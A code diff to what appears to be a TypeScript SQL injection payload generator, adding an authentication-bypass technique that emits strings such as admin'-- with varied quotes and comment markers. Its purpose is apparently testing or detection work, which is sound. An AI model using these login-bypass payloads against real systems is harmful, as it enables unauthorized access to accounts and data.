@@ -135,11 +135,17 @@ function spaceTrick(rng: Rng, s: string): string {
   return s.replace(/ /g, sub);
 }
 
+/** Login bypass: close the quote and comment out the password check (admin'--). */
+function authBypass(rng: Rng): string {
+  return `${rng.pick(['admin', 'administrator', 'root', 'user', rng.pick(VALUES)])}${rng.pick(["'", '"', "')", '")'])}${rng.pick(['', ' ', '  '])}${rng.pick(['--', '#', '/*', '-- -', '--+', ';--', ';#', '%23', '%2d%2d'])}`;
+}
+
 export function sqliPayload(rng: Rng): string {
   const technique = rng.weighted<string>([
     [22, () => tautology(rng)], [18, () => union(rng)], [10, () => stacked(rng)], [12, () => timeBased(rng)],
-    [10, () => booleanBased(rng)], [8, () => errorBased(rng)], [3, () => outOfBand(rng)], [5, () => orderProbe(rng)], [6, () => fullQuery(rng)],
+    [10, () => booleanBased(rng)], [8, () => errorBased(rng)], [3, () => outOfBand(rng)], [5, () => orderProbe(rng)], [6, () => fullQuery(rng)], [5, () => ''],
   ]);
+  if (technique === '') return authBypass(rng);
   const value = rng.chance(0.7) ? rng.pick(VALUES) : '';
   const breakout = rng.pick(BREAKOUTS);
   const sep = rng.pick([' ', ' ', ' ', '', '  ']);
